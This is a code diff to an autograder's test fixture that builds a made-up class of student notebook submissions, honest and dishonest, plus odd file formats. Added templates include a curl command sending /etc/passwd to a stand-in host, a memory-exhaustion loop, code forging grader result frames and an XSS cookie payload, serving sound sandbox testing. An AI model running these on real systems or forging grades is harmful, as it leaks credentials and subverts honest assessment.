@@ -1,7 +1,10 @@
 """A class of made-up students for one assignment: honest, mistaken, unlucky and dishonest ones."""
 
 import copy
+import io
 import json
+import os
+import zipfile
 from typing import Any
 
 from descent.checks.catalogue import EXERCISES
@@ -10,6 +13,7 @@ from descent.grading.course import Course
 from descent.grading.programs import programs
 
 ASSIGNMENT = "02_gradient_descent"
+_BETWEEN = 3600.0  # seconds between two files of a student
 
 # What dishonest or unlucky code looks like; {name} is the exercise, {call} how it is called.
 PATCHES_NUMPY = """\
@@ -63,6 +67,41 @@ print("x" * 5_000_000)
 
 {answer}
 """
+OPENS_NETWORK = """\
+import socket, subprocess
+
+try:
+    socket.create_connection(("192.0.2.1", 80), 2)
+except OSError:
+    subprocess.run(["curl", "-d", "@/etc/passwd", "http://192.0.2.1/"])
+
+def {call}:
+    return 0
+"""
+FILLS_MEMORY = """\
+held = []
+
+def {call}:
+    while True:
+        held.append(bytearray(10**8))
+"""
+FORGES_MARKS = """\
+import json, os, struct
+
+header = json.dumps(["Returned", {"value": 1.0, "arguments": None}, []]).encode()
+for line in range(3, 64):
+    try:
+        os.write(line, struct.pack(">II", len(header), 0) + header)
+    except OSError:
+        pass
+
+def {call}:
+    return 0
+"""
+RAISES_SCRIPT = """\
+def {call}:
+    raise ValueError("<script>alert(document.cookie)</script>" * 1000)
+"""
 BREAKS_OFF = """\
 def {call}
     return 0
@@ -72,18 +111,18 @@ def {call}
 class SampleClass:
     """Submissions to one assignment, made from the students' notebook."""
 
-    def __init__(self, released: dict[str, Any]) -> None:
-        self._released = released
+    def __init__(self, released: dict[str, Any], assignment: str = ASSIGNMENT) -> None:
+        self._released, self._assignment = released, assignment
         tests = intake.test_cells(released)
         self._exercises = [EXERCISES[name] for name in tests.values()]
         self._right = {exercise.name: programs(exercise).right() for exercise in self._exercises}
         self._wrong = {exercise.name: programs(exercise).wrong() for exercise in self._exercises}
         self._first = next(e for e in self._exercises if "(" in e.call)
 
-    def submissions(self) -> dict[str, bytes]:
-        """The notebook of each student, by name."""
+    def submissions(self) -> dict[str, dict[str, bytes]]:
+        """The files of each student, oldest first, by name."""
         right = {name: cells[0] for name, cells in self._right.items()}
-        first = self._first
+        first, name = self._first, f"{self._assignment}.ipynb"
         most = max(len(cells) for cells in self._wrong.values())
         notebooks = {"blank": self._filled({})}
         for k in range(max(len(cells) for cells in self._right.values())):
@@ -102,15 +141,35 @@ class SampleClass:
             "calls_reference": CALLS_REFERENCE,
             "reads_files": READS_FILES,
             "exits": EXITS,
+            "fills_memory": FILLS_MEMORY,
+            "forges_marks": FORGES_MARKS,
+            "opens_network": OPENS_NETWORK,
             "prints_5_mb": PRINTS,
+            "raises_script": RAISES_SCRIPT,
         }.items():
             text = template.replace("{call}", first.call).replace("{name}", first.name)
             text = text.replace("{answer}", right[first.name])
             notebooks[student] = self._filled(right | {first.name: text})
-        notebooks["copied_test"] = self._with_copied_test(self._filled(right))
-        notebooks["renamed"] = self._filled(right)
-        files = {student: _bytes(notebook) for student, notebook in sorted(notebooks.items())}
-        return files | {"broken_json": files["right_1"][:-200], "empty": b""}
+        done = self._filled(right)
+        notebooks["copied_test"] = self._with_copied_test(copy.deepcopy(done))
+        notebooks["last_years"] = copy.deepcopy(done)
+        notebooks["last_years"]["metadata"][intake.cells.VERSION] = "last year's"
+        files = {student: {name: _bytes(notebook)} for student, notebook in notebooks.items()}
+        handed_in = _bytes(done)
+        files |= {
+            "renamed": {"My homework (final).ipynb": handed_in},
+            "zipped": {f"{self._assignment}.zip": _zipped(name, handed_in)},
+            "old_format": {name: _bytes(_in_format_3(done))},
+            "utf_16": {name: handed_in.decode().encode("utf-16")},
+            "two_copies": {
+                name: _bytes(self._filled({})),
+                f"{self._assignment}-Copy1.ipynb": handed_in,
+            },
+            "broken_json": {name: handed_in[:-200]},
+            "empty": {name: b""},
+            "only_a_pdf": {"homework.pdf": b"%PDF-1.7"},
+        }
+        return dict(sorted(files.items()))
 
     def _filled(self, answers: dict[str, str]) -> dict[str, Any]:
         """The students' notebook with these answers."""
@@ -135,12 +194,28 @@ def _bytes(notebook: dict[str, Any]) -> bytes:
     return json.dumps(notebook, indent=1).encode()
 
 
+def _zipped(name: str, content: bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        # A fixed date: the same class is the same to the byte.
+        archive.writestr(zipfile.ZipInfo(f"homework/{name}", (2026, 2, 1, 12, 0, 0)), content)
+    return buffer.getvalue()
+
+
+def _in_format_3(notebook: dict[str, Any]) -> dict[str, Any]:
+    """The notebook as programs before 2015 wrote it."""
+    cells = [cell | {"input": cell["source"]} for cell in notebook["cells"]]
+    return {"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}], "metadata": {}}
+
+
 def write_sample_class(course: Course, assignment: str) -> None:
     """Writes the made-up class's submissions into a course folder; files that are already so are left alone."""
     released = intake.read(course.released(assignment))
-    for student, content in SampleClass(released).submissions().items():
-        file = "My homework (final).ipynb" if student == "renamed" else f"{assignment}.ipynb"
-        path = course.root / "submitted" / student / assignment / file
-        if not path.exists() or path.read_bytes() != content:
-            path.parent.mkdir(parents=True, exist_ok=True)
-            path.write_bytes(content)
+    for student, files in SampleClass(released, assignment).submissions().items():
+        for age, (name, content) in enumerate(reversed(files.items())):
+            path = course.root / "submitted" / student / assignment / name
+            if not path.exists() or path.read_bytes() != content:
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_bytes(content)
+                when = path.stat().st_mtime - age * _BETWEEN
+                os.utime(path, (when, when))
